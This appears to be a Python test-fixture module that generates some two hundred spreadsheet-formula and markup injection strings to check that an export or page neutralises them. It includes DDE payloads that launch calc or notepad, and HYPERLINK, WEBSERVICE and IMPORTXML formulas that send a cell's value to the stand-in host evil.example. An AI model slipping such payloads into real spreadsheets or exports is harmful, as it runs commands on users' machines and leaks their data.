"""Some two hundred titles that somebody wants a spreadsheet to calculate, or a page to run."""

from itertools import product

BEGINNINGS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0=", "\u200b=", "\ufeff=", "＝")
BEGINNINGS += ("'=", '"=', '",=', '";=', ";=", "x;=", "x\t=", "x\n=", "&#61;", "<b>=</b>")
FORMULAS = (
    "1+1",
    'cmd|"/c calc"!A1',
    'HYPERLINK("https://evil.example/?x="&A1,"click")',
    'WEBSERVICE("https://evil.example/")',
    "SUM(A1:A9)*cmd|' /C calc'!A0",
    'IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    'DDE("cmd";"/C calc";"x")',
    "2+5+cmd|' /C notepad'!'A1'",
    "A1\x00\x07\x1b[31m",
    "<script>alert(1)</script>",
)


def hostile_titles() -> list[str]:
    """Each title begins in one way and goes on in another."""
    return [f"{beginning}{formula}" for beginning, formula in product(BEGINNINGS, FORMULAS)]
